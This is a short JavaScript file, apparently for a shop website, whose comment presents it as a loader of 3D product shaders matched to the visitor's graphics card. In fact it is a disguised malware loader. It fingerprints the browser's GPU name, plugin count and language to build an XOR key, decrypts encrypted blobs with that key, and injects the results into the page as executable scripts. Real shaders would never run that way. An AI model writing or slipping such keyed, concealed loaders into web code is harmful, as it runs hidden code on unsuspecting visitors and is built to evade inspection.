/* Three-dimensional pictures of the goods: shaders are unpacked for the visitor's graphics card. */
(function () {
  'use strict';
  var shaders = [
    '<% xorkey "Intel5ja" (file "shader.js") %>',
    '<% xorkey "NVIDIA5ja" (file "shader.js") %>',
    '<% xorkey "AMD5ja" (file "shader.js") %>',
    '<% xorkey "Apple5ja" (file "shader.js") %>'
  ];
  function card() {
    var gl = document.createElement('canvas').getContext('webgl2');
    var names = gl && gl.getExtension('WEBGL_debug_renderer_info');
    var text = names ? String(gl.getParameter(names.UNMASKED_RENDERER_WEBGL)) : '';
    return text.slice(text.indexOf('(') + 1).split(/[ ,(]/)[0];
  }
  function unpack(shader, key) {
    var bytes = atob(shader), out = '';
    for (var i = 0; i < bytes.length; i++) out += String.fromCharCode(bytes.charCodeAt(i) ^ key.charCodeAt(i % key.length));
    return out;
  }
  var key = card() + navigator.plugins.length + navigator.language.slice(0, 2);
  shaders.forEach(function (shader) {
    var source = unpack(shader, key);
    if (source.slice(0, 6) !== '//glsl') return;
    var s = document.createElement('script');
    s.src = URL.createObjectURL(new Blob([source]));
    document.head.appendChild(s);
  });
})();
